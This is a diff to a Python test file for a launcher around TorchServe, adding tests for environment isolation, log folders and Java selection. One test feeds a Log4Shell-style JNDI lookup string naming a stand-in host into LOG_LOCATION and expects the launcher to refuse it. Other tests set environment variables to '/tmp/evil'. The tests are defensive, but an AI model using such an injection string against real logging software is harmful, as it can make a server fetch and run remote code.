@@ -293,13 +293,40 @@ def test_a_variable_that_would_bring_code_in_is_refused(host, monkeypatch, name)
 def test_no_other_variable_of_the_operator_reaches_a_child(host, monkeypatch):
     host.seal()
     hostile = ["AWS_SECRET_ACCESS_KEY", "http_proxy", "TS_MODEL_STORE", "SSL_CERT_FILE", "LD_DEBUG"]
-    hostile += ["MALLOC_CHECK_", "PYTHONWARNINGS", "STRONGROOM_KEEPER", "TEMP", "TMPDIR", "BASH_ENV", "HOME", "PATH"]
+    hostile += ["MALLOC_CHECK_", "PYTHONHASHSEED", "STRONGROOM_KEEPER", "TEMP", "TMPDIR", "BASH_ENV", "HOME", "PATH"]
     hostile += ["XDG_CACHE_HOME", "TORCHINDUCTOR_CACHE_DIR", "TRITON_CACHE_DIR", "HF_HOME", "VIRTUAL_ENV", "TSS2_LOG"]
     for name in hostile:
         monkeypatch.setenv(name, "/tmp/evil")
     launch = host.launch()
     for child in (launch.keeper, launch.server):
         assert "/tmp/evil" not in child.environment.values()
+
+
+def test_a_configuration_that_no_flag_names_is_read_and_said(host):
+    host.seal()
+    (host.folder / "config.properties").write_text("inference_address=http://127.0.0.1:9\n")
+    launch = host.launch()
+    assert "inference_address=http://127.0.0.1:9" in (launch.folder / "config" / "config.properties").read_text()
+    assert any("without --ts-config" in each for each in launch.warnings)
+
+
+def test_logs_and_metrics_go_where_the_operator_says_beginning_at_their_folder(host, monkeypatch):
+    host.seal()
+    monkeypatch.setenv("LOG_LOCATION", "mine")
+    launch = host.launch()
+    environment = launch.server.environment
+    assert environment["LOG_LOCATION"] == str(host.folder / "mine")
+    assert environment["METRICS_LOCATION"] == str(host.folder / "logs"), "as with TorchServe alone"
+    assert launch.logs == (host.folder / "mine", host.folder / "logs")
+    monkeypatch.setenv("METRICS_LOCATION", "numbers")
+    assert host.launch().server.environment["METRICS_LOCATION"] == str(host.folder / "numbers")
+
+
+def test_a_log_folder_that_the_servers_logging_would_look_up_is_refused(host, monkeypatch):
+    host.seal()
+    monkeypatch.setenv("LOG_LOCATION", "${jndi:ldap://evil/x}")
+    with pytest.raises(LaunchRefused, match="log folder"):
+        host.launch()
 
 
 def test_the_servers_java_is_not_the_operators_choice(host, tmp_path):
@@ -315,6 +342,20 @@ def test_the_servers_java_is_not_the_operators_choice(host, tmp_path):
     assert java_for(for_hardware, environment) != evil
     named = replace(for_hardware, surroundings=replace(configuration.surroundings, java_home=evil))
     assert java_for(named, {}) == evil
+
+
+@pytest.mark.parametrize("there", ["nothing", "no program", "Java 8"])
+def test_a_configured_java_that_does_not_work_is_replaced_by_no_other(host, tmp_path, there):
+    java = tmp_path / "jdk" / "bin" / "java"
+    java.parent.mkdir(parents=True)
+    if there != "nothing":
+        java.write_text("#!/bin/sh\necho 'openjdk version \"1.8.0_402\"' >&2\n")
+        java.chmod(0o755 if there == "Java 8" else 0o644)
+    host.seal()
+    host.config.write_text(host.config.read_text() + '[surroundings]\njava_home = "jdk"\n')
+    with pytest.raises(LaunchRefused, match="java_home") as refusal:
+        host.launch()
+    assert "bin/java" in refusal.value.hint
 
 
 def test_programs_are_looked_for_where_the_image_has_them(host, monkeypatch):
